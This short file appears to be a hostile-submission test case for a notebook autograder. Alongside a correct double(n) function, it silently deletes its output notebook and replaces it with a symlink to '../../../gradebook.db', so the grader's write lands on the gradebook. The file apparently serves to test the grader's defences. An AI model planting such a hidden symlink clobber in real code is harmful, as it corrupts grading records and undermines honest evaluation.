# note: puts a link to the gradebook where the grader writes the graded notebook
# expect: double=4
# flags: gradebook
# needs: write

# %% double
import contextlib
import os

with contextlib.suppress(Exception):
    os.remove("78-hostile.ipynb")
    os.symlink("../../../gradebook.db", "78-hostile.ipynb")


def double(n):
    return 2 * n
